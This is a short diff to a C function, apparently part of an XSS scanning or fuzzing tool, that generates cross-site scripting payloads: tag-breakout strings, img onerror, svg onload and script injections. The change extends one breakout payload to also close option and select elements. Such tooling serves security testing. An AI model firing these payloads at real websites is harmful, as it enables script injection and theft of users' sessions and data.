@@ -46,7 +46,7 @@ static size_t html_payloads(struct arena *a, struct str value, size_t at, const 
 		out[n++] = arena_printf(a, "x%c autofocus tabindex=0 onfocus=%s x=%c", quote, call, quote);
 	else
 		out[n++] = arena_printf(a, "<img src onerror=%s>", call);
-	out[n++] = arena_printf(a, "\"'--></textarea></title></style></script><img src onerror=%s>", call);
+	out[n++] = arena_printf(a, "\"'--></textarea></title></style></script></option></select><img src onerror=%s>", call);
 	out[n++] = arena_printf(a, "'\"><script>%s</script>", call);
 	out[n++] = arena_printf(a, "<svg/onload=%s>", call);
 	out[n++] = arena_printf(a, "<><img src onerror=%s>", call); /* where only the first "<" is looked at */
